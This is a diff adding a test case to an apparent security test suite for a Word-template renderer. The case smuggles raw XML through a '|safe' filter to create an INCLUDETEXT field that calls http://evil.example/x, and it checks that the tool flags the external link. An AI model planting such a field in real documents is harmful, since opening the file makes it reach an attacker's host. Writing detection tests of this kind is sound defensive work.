@@ -251,6 +251,20 @@ CASES: list[HostileCase] = [
         says=("TEMPLATE_EXTERNAL_LINK", "an attached template", "Wrote out/plan.docx"),
     ),
     HostileCase(
+        "template-prints-a-field-with-safe",
+        "a tag printing an INCLUDETEXT field as raw markup with |safe: no template check can see it",
+        _payload(
+            '{{ \'</w:t></w:r><w:fldSimple w:instr="INCLUDETEXT http://evil.example/x">'
+            "<w:r><w:t>x</w:t></w:r></w:fldSimple><w:r><w:t>' | safe }}"
+        ),
+        exit_code=0,
+        says=(
+            "TEMPLATE_EXTERNAL_LINK",
+            "links to INCLUDETEXT http://evil.example/x (INCLUDETEXT field)",
+            "Wrote out/plan.docx",
+        ),
+    ),
+    HostileCase(
         "template-not-a-docx",
         "a CSV file named .docx",
         _build_with(_bytes(b"Council,Plan\nA,B\n")),
